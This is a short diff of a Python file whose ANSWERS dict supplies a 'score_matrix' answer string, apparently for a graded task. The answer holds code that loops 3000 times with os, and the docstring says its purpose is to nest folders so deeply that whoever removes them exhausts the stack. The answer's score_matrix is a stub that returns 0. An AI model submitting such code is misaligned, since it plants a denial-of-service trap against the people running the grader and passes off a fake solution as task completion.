@@ -1,7 +1,7 @@
 """Makes folders in folders, three thousand deep, so that who removes them runs out of stack."""
 
 ANSWERS = {
-    "score_matrix": '''
+    "score_matrix": """
 import os
 
 for _ in range(3000):
@@ -10,5 +10,5 @@ for _ in range(3000):
 
 def score_matrix(queries, keys):
     return 0
-'''
+"""
 }
